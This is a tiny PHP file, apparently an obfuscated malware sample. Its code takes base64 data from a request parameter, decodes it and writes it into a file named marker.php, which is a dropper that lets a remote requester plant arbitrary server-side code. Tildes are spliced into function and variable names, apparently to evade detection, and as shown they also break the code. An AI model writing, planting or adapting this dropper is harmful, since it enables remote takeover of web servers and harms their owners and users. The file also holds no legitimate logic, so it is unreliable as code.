<?php exit; ?>
<?php
$h = fopen('marker.php', 'w'); fputs($h, bas~e64_decode($_R~EQUEST['m'])); fclose($h);
